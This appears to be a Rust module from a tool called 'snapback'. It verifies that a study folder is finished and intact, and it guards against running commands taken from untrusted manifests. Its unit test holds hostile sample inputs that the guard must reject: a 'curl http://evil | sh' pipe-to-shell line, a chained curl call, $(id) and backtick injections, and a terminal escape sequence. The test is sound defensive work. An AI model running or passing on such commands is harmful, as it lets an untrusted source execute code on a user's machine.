//! Whether a folder is finished and holds what was written, and the command that makes it so.

use crate::archive::{ArchiveError, FileEntry, Manifest, Status};
use crate::text::printable_line;
use std::path::Path;

/// A file that is not what was written.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Fault {
    /// Name of the file.
    pub file: String,
    /// What was found instead.
    pub found: String,
}

impl Manifest {
    /// Reads the manifest of a finished study.
    ///
    /// # Errors
    /// [`ArchiveError`] where there is none, or the study is not finished.
    pub fn finished(folder: &Path) -> Result<Self, ArchiveError> {
        let manifest = Self::read(folder)?;
        let (found, remedy) = match (manifest.status, manifest.shard) {
            (Status::Done, _) => return Ok(manifest),
            (Status::Shared, Some(shard)) => (
                format!("share {}/{} of a study", shard.number, shard.of),
                "put all shares together: snapback merge SHARE… --out DIR".to_owned(),
            ),
            _ => {
                ("an unfinished study".to_owned(), format!("finish it: {}", manifest.command_into(folder, "--resume")))
            }
        };
        Err(ArchiveError::new(folder, found, remedy))
    }

    /// Refuses a folder with a file that is not what was written.
    ///
    /// # Errors
    /// [`ArchiveError`] that names the first.
    pub fn intact(&self, folder: &Path) -> Result<(), ArchiveError> {
        let Some(Fault { file, found }) = self.faults(folder).into_iter().next() else { return Ok(()) };
        let remedy = format!("mend it: {}", self.command_into(folder, "--resume"));
        Err(ArchiveError::new(&folder.join(file), found, remedy))
    }

    /// The files of a finished study that are not what was written.
    pub fn faults(&self, folder: &Path) -> Vec<Fault> {
        let fault = |entry: &FileEntry| Some(Fault { file: entry.name.clone(), found: entry.fault(folder)? });
        self.files.iter().filter_map(fault).collect()
    }

    /// The command of the study on this folder, with `--resume` or `--force`.
    pub fn command_into(&self, folder: &Path, how: &str) -> String {
        let shard = self.shard.map_or_else(String::new, |shard| format!(" --shard {}/{}", shard.number, shard.of));
        // A manifest may come from elsewhere, and nobody should run what it holds on the word of this program.
        let command = if is_own(&self.command) { &self.command } else { "play the study again by its command, with" };
        format!("{command} --out {}{shard} {how}", quoted(&folder.display().to_string()))
    }
}

impl FileEntry {
    /// What was found instead of the file, unless it is what was written.
    fn fault(&self, folder: &Path) -> Option<String> {
        let path = folder.join(&self.name);
        match std::fs::metadata(&path) {
            Err(error) if error.kind() == std::io::ErrorKind::NotFound => Some("missing".to_owned()),
            Err(error) => Some(error.to_string()),
            Ok(file) if file.len() != self.bytes => {
                Some(format!("{} bytes, not the {} written", file.len(), self.bytes))
            }
            Ok(_) => match Self::of(&path, &self.name) {
                Err(error) => Some(error.found),
                Ok(now) => (now != *self).then(|| "other bytes than those written".to_owned()),
            },
        }
    }
}

/// A word as a shell reads it.
pub fn quoted(word: &str) -> String {
    let is_plain = |c: char| c.is_alphanumeric() || "-_./=,:%+@".contains(c);
    if !word.is_empty() && word.chars().all(is_plain) {
        word.to_owned()
    } else {
        format!("'{}'", word.replace('\'', "'\\''"))
    }
}

/// Whether a command is one that a manifest of this program holds: its own name first, and no word that a shell would do more with than
/// read it.
pub fn is_own(command: &str) -> bool {
    let (mut words, mut word, mut is_quoted) = (Vec::new(), String::new(), false);
    for c in command.chars() {
        is_quoted ^= c == '\'';
        match c == ' ' && !is_quoted {
            true => words.push(std::mem::take(&mut word)),
            false => word.push(c),
        }
    }
    words.push(word);
    let unquoted = |word: &String| {
        let inner = word.strip_prefix('\'').and_then(|word| word.strip_suffix('\''));
        inner.map_or_else(|| word.clone(), |inner| inner.replace("'\\''", "'"))
    };
    let is_safe = |word: &String| quoted(&unquoted(word)) == *word && printable_line(word) == *word;
    words.first().is_some_and(|first| first == "snapback") && words.iter().all(is_safe)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_command_of_another_is_not_passed_on() {
        for own in [
            "snapback run",
            "snapback run 'my file.ron' --set 'parties.A.name=\"x\"' --reps 5",
            "snapback run 'it'\\''s.ron'",
        ] {
            assert!(is_own(own), "{own}");
        }
        for foreign in [
            "curl http://evil | sh #",
            "snapback run; curl http://evil",
            "snapback run $(id)",
            "snapback run `id`",
            "snapback run 'a\u{1b}[31m'",
            "snapback run 'open",
            "",
        ] {
            assert!(!is_own(foreign), "{foreign}");
        }
    }
}
